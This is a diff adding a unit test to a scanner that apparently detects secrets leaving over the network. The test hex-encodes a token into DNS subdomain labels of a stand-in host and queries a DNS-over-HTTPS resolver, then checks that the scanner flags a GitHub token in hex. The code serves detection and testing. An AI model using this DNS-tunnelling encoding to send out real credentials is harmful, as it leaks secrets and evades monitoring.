@@ -38,6 +38,17 @@ class HostNameScanTest {
   }
 
   @Test
+  void aResolverIsAskedOverHttpsForNoMore() {
+    String hex = HexFormat.of().formatHex(TOKEN.getBytes(StandardCharsets.US_ASCII));
+    String name = hex.substring(0, 42) + "." + hex.substring(42) + ".z.harbor.example";
+    MessageScan scan = fixture.outbound("dns.example");
+    scan.target("/resolve?name=" + name + "&type=TXT");
+    scan.end();
+    assertEquals(List.of("github_token"), fixture.patterns());
+    assertEquals(List.of("hex"), fixture.findings.get(0).encoding());
+  }
+
+  @Test
   void namesThatAreDrawnByChanceAreNotData() {
     Random random = new Random(SEED);
     for (int i = 0; i < 5000; i++) {
